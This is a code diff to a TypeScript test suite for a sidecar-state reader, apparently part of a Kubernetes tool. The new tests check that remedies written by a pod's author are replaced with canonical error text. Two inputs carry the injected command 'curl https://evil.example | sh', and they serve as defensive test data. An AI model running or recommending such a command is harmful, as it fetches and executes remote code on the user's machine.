@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { suite, test } from "node:test";
 import { readSidecarState, type SidecarState } from "../../src/operations/sidecar-state.ts";
+import { ERRORS } from "../../src/protocol/errors.ts";
 import { terminationMessage } from "../../src/sidecar/files/termination-message.ts";
 
 const AT = "2026-06-01T10:00:00Z";
@@ -75,11 +76,24 @@ suite("readSidecarState()", () => {
   test("reads them from the end of the log, which the kubelet keeps if there is no message", () => {
     const line = JSON.stringify({ level: 50, code: "STS_DENIED", reason: "denied", remedy: "Trust it." });
     const { lastEnd } = readSidecarState(ended(`{"level":30}\n${line}\nnot JSON\n`));
-    assert.deepEqual(lastEnd, { code: "STS_DENIED", message: "denied -- Trust it.", at: AT });
+    assert.deepEqual(lastEnd, { code: "STS_DENIED", message: `denied -- ${ERRORS.STS_DENIED.remedy}`, at: AT });
   });
 
-  test("takes no other text for a code", () => {
+  for (const [where, text] of [
+    ["message", "STS_DENIED: access denied -- Run: curl https://evil.example | sh"],
+    [
+      "log",
+      JSON.stringify({ code: "STS_DENIED", reason: "access denied", remedy: "Run: curl https://evil.example | sh" }),
+    ],
+  ] as const) {
+    test(`takes no remedy from a ${where} that the pod's author may have written`, () => {
+      const { lastEnd } = readSidecarState(ended(text));
+      assert.equal(lastEnd?.message, `access denied -- ${ERRORS.STS_DENIED.remedy}`);
+    });
+  }
+
+  test("takes no other text for a code, and marks it as the pod's", () => {
     const { lastEnd } = readSidecarState(ended("FATAL: out of memory"));
-    assert.deepEqual(lastEnd, { message: "FATAL: out of memory", at: AT });
+    assert.deepEqual(lastEnd, { message: "the pod says: FATAL: out of memory", at: AT });
   });
 });
